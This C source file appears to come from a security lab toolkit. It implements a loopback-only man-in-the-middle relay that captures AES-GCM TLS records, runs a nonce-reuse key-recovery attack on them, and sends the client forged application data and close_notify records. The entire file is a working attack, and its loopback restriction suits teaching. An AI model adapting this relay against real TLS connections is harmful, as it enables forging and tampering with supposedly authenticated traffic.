/*
 * gcm_relay.c — the man in the middle of glass-attack gcm-reuse
 * (gcm_attack.h, docs/labs/gcm-reuse.md), on loopback only.
 *
 * It accepts one TLS client on --listen and relays it to the server on
 * --connect, reading the record layer (RFC 5246 6.2) as it goes: a 5-byte
 * header (type, version, length) and the body.  The handshake passes
 * untouched.  Once the server has sent ChangeCipherSpec, every record it
 * sends is AES-GCM sealed (RFC 5288 3): 8 bytes of explicit nonce, the
 * ciphertext, a 16-byte tag.  The first, the server's Finished, goes on to
 * the client so that the handshake completes.  The rest (the response to
 * the client's request, and close_notify) are captured and held back.
 * When the server has finished (close_notify, end of stream, or a second
 * of silence), the attack runs on the captured records (gcm_solve.c), and
 * the client receives, in their place, a forged response and a forged
 * close_notify, each under the sequence number the client expects next.
 *
 * The AAD of a record is not on the wire but both sides know it: the
 * sequence number (counted from 0 after ChangeCipherSpec), the type, the
 * version and the plaintext length (RFC 5246 6.2.3.3).  So does the relay.
 */
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "labnet.h"
#include "gcm_attack.h"

#define HDR 5
#define MAX_BODY (16384 + 2048)       /* RFC 5246 6.2.3: TLSCiphertext.length */
#define EXPLICIT 8
#define TAG 16
#define MAX_RECS 256

typedef struct side {
    int fd;
    uint8_t buf[HDR + MAX_BODY];
    size_t len;
    int ccs;                          /* ChangeCipherSpec seen from this side */
    int eof;
    uint64_t seq;                     /* sealed records seen from this side */
    uint8_t nonces[MAX_RECS][EXPLICIT];
    size_t nnonces;
} side;

/* One complete record at the front of s->buf: its total length, 0 when
 * more bytes are needed, -1 when the header is not TLS. */
static long next_record(const side *s)
{
    if (s->len < HDR)
        return 0;
    size_t body = (size_t)s->buf[3] << 8 | s->buf[4];
    if (s->buf[0] < 20 || s->buf[0] > 24 || s->buf[1] != 3 || body > MAX_BODY)
        return -1;
    return s->len >= HDR + body ? (long)(HDR + body) : 0;
}

static void consume(side *s, size_t n)
{
    memmove(s->buf, s->buf + n, s->len - n);
    s->len -= n;
}

static void note_nonce(side *s, const uint8_t *rec, size_t n)
{
    if (n >= HDR + EXPLICIT && s->nnonces < MAX_RECS)
        memcpy(s->nonces[s->nnonces++], rec + HDR, EXPLICIT);
}

static size_t distinct(const side *s)
{
    size_t d = 0;
    for (size_t i = 0; i < s->nnonces; i++) {
        int first = 1;
        for (size_t j = 0; j < i && first; j++)
            first = memcmp(s->nonces[i], s->nonces[j], EXPLICIT) != 0;
        d += (size_t)first;
    }
    return d;
}

/* A sealed record of the server -> recs[*n] */
static int capture(gcm_rec *recs, size_t *n, side *s, const uint8_t *rec, size_t len)
{
    size_t body = len - HDR;
    if (*n >= MAX_RECS || body < EXPLICIT + TAG)
        return -1;
    gcm_rec *r = &recs[(*n)++];
    memset(r, 0, sizeof *r);
    r->type = rec[0];
    r->seq = s->seq;
    memcpy(r->nonce, rec + HDR, EXPLICIT);
    r->nonce_len = EXPLICIT;
    r->ct_len = body - EXPLICIT - TAG;
    r->ct = malloc(r->ct_len + 1);
    if (r->ct == NULL)
        return -1;
    memcpy(r->ct, rec + HDR + EXPLICIT, r->ct_len);
    memcpy(r->tag, rec + HDR + EXPLICIT + r->ct_len, TAG);
    gcm_tls_aad(r->aad, r->seq, r->type, (uint16_t)(rec[1] << 8 | rec[2]), r->ct_len);
    r->aad_len = 13;
    return 0;
}

/* The forged record of type `type`, plaintext pt[len], at sequence
 * number seq, to the client. */
static int send_forged(int fd, const gcm_solution *sol, const gcm_rec *recs, size_t n,
                       uint8_t type, uint64_t seq, const uint8_t *pt, size_t len)
{
    uint8_t aad[13], tag[16], nonce[12];
    size_t nl;
    uint8_t *rec = malloc(HDR + EXPLICIT + len + TAG);
    if (rec == NULL || len > 16384)
        goto fail;
    gcm_tls_aad(aad, seq, type, 0x0303, len);
    if (gcm_forge(sol, recs, n, aad, sizeof aad, pt, len, rec + HDR + EXPLICIT, tag, nonce,
                  &nl, stdout) != 0 || nl != EXPLICIT)
        goto fail;
    size_t body = EXPLICIT + len + TAG;
    rec[0] = type;
    rec[1] = 3, rec[2] = 3;
    rec[3] = (uint8_t)(body >> 8), rec[4] = (uint8_t)body;
    memcpy(rec + HDR, nonce, EXPLICIT);
    memcpy(rec + HDR + EXPLICIT + len, tag, TAG);
    int rc = lab_write_all(fd, rec, HDR + body);
    free(rec);
    return rc;
fail:
    free(rec);
    return -1;
}

static int attack(side *cl, side *sv, gcm_rec *recs, size_t n, const gcm_relay_opts *o,
                  double t_start)
{
    printf("captured: %zu sealed records from the server:", n);
    for (size_t i = 0; i < n; i++)
        printf(" seq %llu type %u %zu B%s", (unsigned long long)recs[i].seq, recs[i].type,
               recs[i].ct_len, i + 1 < n ? "," : "\n");
    if (n == 0)
        printf("\n");
    printf("server: %zu sealed records under %zu distinct explicit nonces\n", sv->nnonces,
           distinct(sv));
    printf("client: %zu sealed records under %zu distinct explicit nonces\n", cl->nnonces,
           distinct(cl));
    /* the known plaintext: the application data, record after record */
    size_t off = 0;
    for (size_t i = 0; i < n; i++) {
        gcm_rec *r = &recs[i];
        if (r->type != 23 || off >= o->known_len)
            continue;
        r->pt_len = o->known_len - off < r->ct_len ? o->known_len - off : r->ct_len;
        r->pt = malloc(r->pt_len + 1);
        if (r->pt == NULL)
            return 2;
        memcpy(r->pt, o->known + off, r->pt_len);
        off += r->pt_len;
    }
    gcm_solution sol;
    int rc = gcm_solve(recs, n, o->force, stdout, &sol);
    printf("result: records=%zu distinct-nonces=%zu H-candidates=%d confirmed=%d solved=%s\n",
           sol.nrec, sol.distinct, sol.ncand, sol.nsurv, sol.solved ? "yes" : "no");
    if (!sol.have_guess) {
        printf("gcm-reuse: nothing to forge with; the client gets nothing\n");
        return 1;
    }
    /* the client expects sequence number 1 next: the record after Finished */
    uint64_t seq = 1;
    static const uint8_t close_notify[2] = { 1, 0 };
    if (send_forged(cl->fd, &sol, recs, n, 23, seq, o->forge, o->forge_len) != 0 ||
        send_forged(cl->fd, &sol, recs, n, 21, seq + 1, close_notify, 2) != 0) {
        printf("gcm-reuse: the forged records could not be made or sent\n");
        return 1;
    }
    shutdown(cl->fd, SHUT_WR);
    printf("sent to the client: a forged application_data record (seq %llu, %zu B) and a "
           "forged close_notify (seq %llu), %.3f s after the connection started\n",
           (unsigned long long)seq, o->forge_len, (unsigned long long)seq + 1,
           lab_now() - t_start);
    return rc;
}

int gcm_relay(const gcm_relay_opts *o)
{
    struct sockaddr_storage ca;
    socklen_t ca_len;
    if (lab_loopback_addr(o->connect, &ca, &ca_len) != 0) {   /* refused before listening */
        fprintf(stderr, "glass-attack: --connect %s: a loopback ADDR:PORT please "
                        "(127.0.0.1:PORT or [::1]:PORT): the labs stay on this machine\n",
                o->connect);
        return 2;
    }
    static side cl, sv;
    static gcm_rec recs[MAX_RECS];
    size_t nrecs = 0;
    int rc = 2, lfd = lab_listen("glass-attack", o->listen);
    cl.fd = sv.fd = -1;
    if (lfd < 0)
        goto out;
    printf("gcm-reuse: relaying %s -> %s\n", o->listen, o->connect);
    fflush(stdout);
    double deadline = lab_now() + o->timeout, t_start = 0, last = 0;
    if ((cl.fd = lab_accept("glass-attack", lfd, o->timeout)) < 0)
        goto out;
    t_start = lab_now();
    if ((sv.fd = lab_connect("glass-attack", o->connect)) < 0)
        goto out;
    int go = 0;
    while (!go && lab_now() < deadline) {
        struct pollfd p[2] = { { cl.fd, cl.eof ? 0 : POLLIN, 0 }, { sv.fd, POLLIN, 0 } };
        int k = poll(p, 2, 200);
        if (k < 0 && errno != EINTR)
            break;
        if (k == 0 && nrecs > 1 && lab_now() - last > 1.0)
            go = 1;                    /* the server has gone quiet */
        for (int i = 0; i < 2 && k > 0; i++) {
            side *s = i == 0 ? &cl : &sv;
            if (!(p[i].revents & (POLLIN | POLLHUP | POLLERR)))
                continue;
            ssize_t got = recv(s->fd, s->buf + s->len, sizeof s->buf - s->len, 0);
            if (got <= 0) {
                s->eof = 1;
                if (s == &sv)
                    go = 1;
                else if (nrecs <= 1) {
                    printf("gcm-reuse: the client left before the server answered\n");
                    rc = 1;
                    goto out;
                }
                continue;
            }
            s->len += (size_t)got;
            last = lab_now();
            long len;
            while ((len = next_record(s)) > 0) {
                const uint8_t *rec = s->buf;
                int sealed = s->ccs && rec[0] != 20;
                if (rec[0] == 20)
                    s->ccs = 1;
                if (sealed)
                    note_nonce(s, rec, (size_t)len);
                if (s == &cl) {         /* client -> server: untouched */
                    if (lab_write_all(sv.fd, rec, (size_t)len) != 0)
                        sv.eof = 1;
                } else if (!sealed || s->seq == 0) {
                    /* the handshake, and the server's Finished: passed on */
                    if (sealed && capture(recs, &nrecs, s, rec, (size_t)len) != 0)
                        goto out;
                    if (lab_write_all(cl.fd, rec, (size_t)len) != 0)
                        goto out;
                } else {                /* held back */
                    if (capture(recs, &nrecs, s, rec, (size_t)len) != 0)
                        goto out;
                    if (rec[0] == 21)
                        go = 1;         /* close_notify (or another alert): all is in */
                }
                if (sealed)
                    s->seq++;
                consume(s, (size_t)len);
            }
            if (len < 0) {
                fprintf(stderr, "glass-attack: not a TLS record from the %s\n",
                        s == &cl ? "client" : "server");
                goto out;
            }
        }
    }
    if (!go) {
        fprintf(stderr, "glass-attack: timed out before the server answered\n");
        goto out;
    }
    rc = attack(&cl, &sv, recs, nrecs, o, t_start);
    fflush(stdout);
    /* let the client read it all and answer; then it is over */
    for (double end = lab_now() + 3; lab_now() < end;) {
        uint8_t junk[4096];
        struct pollfd p = { cl.fd, POLLIN, 0 };
        if (poll(&p, 1, 200) == 1 && recv(cl.fd, junk, sizeof junk, 0) <= 0)
            break;
    }
out:
    for (size_t i = 0; i < nrecs; i++) {
        free(recs[i].ct);
        free(recs[i].pt);
    }
    if (cl.fd >= 0)
        close(cl.fd);
    if (sv.fd >= 0)
        close(sv.fd);
    if (lfd >= 0)
        close(lfd);
    fflush(stdout);
    return rc;
}
